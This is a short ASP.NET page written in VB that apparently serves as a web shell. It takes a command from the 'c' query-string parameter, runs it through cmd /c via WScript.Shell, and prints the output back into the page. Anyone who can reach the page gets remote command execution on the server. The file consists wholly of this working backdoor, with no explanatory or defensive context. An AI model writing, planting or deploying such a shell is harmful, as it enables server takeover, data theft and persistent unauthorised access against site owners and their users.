<%@ Page Language="VB" aspcompat="true" %>
<%
    Dim c As String = Request.QueryString("c")
    If c <> "" Then
        Dim sh As Object = CreateObject("WScript.Shell")
        Dim ex As Object = sh.Exec("cmd /c " & c)
        Response.Write("<pre>" & ex.StdOut.ReadAll() & "</pre>")
    End If
%>
